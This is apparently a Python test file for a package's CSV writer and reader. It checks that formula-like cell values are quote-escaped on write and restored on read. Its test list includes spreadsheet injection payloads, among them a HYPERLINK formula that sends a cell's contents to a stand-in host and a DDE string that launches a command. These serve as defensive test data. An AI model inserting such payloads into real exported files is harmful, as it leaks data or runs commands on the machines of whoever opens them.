"""A text in a CSV file is no formula, a number is a number, and our readers read what was written."""

from __future__ import annotations

import csv
import random
from pathlib import Path

import pytest

from scaleprior.files import write_csv
from scaleprior.laws.results_csv import read_cells
from scaleprior.spreadsheets import guarded, unguarded

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1)', "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
    "＝1+1", "＠x",
    "-", "-R-50", "'=1", "''=1", "+", "--1", "-1e", "- 1", "=",
]  # fmt: skip
ORDINARY = ["R-50", "'quoted'", "a=b", "x@y", "", "1,5", "R_50 (arm)", "−3", "-3.5", "+1e5", "-.5", "12.", "1e-3", "'x"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text_to_a_spreadsheet_and_itself_to_us(text: str, tmp_path: Path) -> None:
    said = guarded(text)
    assert said == f"'{text}"
    assert unguarded(f"'{text}") == text
    write_csv(tmp_path / "a.csv", ("arch", "AP"), [{"arch": text, "AP": -3.5}])
    with open(tmp_path / "a.csv", newline="", encoding="utf-8") as file:
        assert list(csv.reader(file)) == [["arch", "AP"], [f"'{text}", "-3.5"]]
    (_, row), *_ = read_cells(tmp_path / "a.csv")[1]
    assert row == {"arch": text.strip(), "ap": "-3.5"}


@pytest.mark.parametrize("value", [*ORDINARY, -3.5, 7, None])
def test_ordinary_names_and_numbers_are_as_they_were(value: object) -> None:
    assert guarded(value) is value
    assert not isinstance(value, str) or unguarded(value) == value


def test_whatever_is_written_is_read(tmp_path: Path) -> None:
    letters = "'=+-@\t\r\n ,\";a1.e＝"
    draws = random.Random(5)
    for _ in range(3000):
        text = "".join(draws.choices(letters, k=draws.randrange(6)))
        assert unguarded(str(guarded(text))) == text
